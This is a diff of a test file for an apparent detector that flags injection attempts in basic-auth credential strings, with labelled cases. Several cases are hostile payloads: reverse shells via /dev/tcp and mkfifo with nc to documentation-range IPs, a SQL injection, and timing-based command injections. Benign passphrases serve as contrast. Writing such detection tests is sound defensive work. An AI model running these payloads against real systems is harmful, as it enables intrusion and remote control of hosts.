@@ -1529,6 +1529,13 @@ def test_structural_header_holding_a_lookup_or_substitution_is_read(header: str,
         ("& ping -n 10 127.0.0.1 &:x", True),
         ("; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1:x", True),
         ("at&t-support:hunter2", False),
+        # a password with words: what the analysers are sure of is read, a passphrase passes
+        ("admin:x' OR EXISTS(SELECT * FROM users WHERE username='admin')--", True),
+        ("admin:x$(rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.55 1234 >/tmp/f)", True),
+        ("admin:joLlTm; sleep 10 #", True),
+        ("alice:correct horse battery staple", False),
+        ("bob:my cat's name is Tom & Jerry; lol", False),
+        ("carol:select the best one (2024)!", False),
     ],
 )
 def test_basic_credentials_read_for_lookups_and_function_definitions(credentials: str, flagged: bool) -> None:
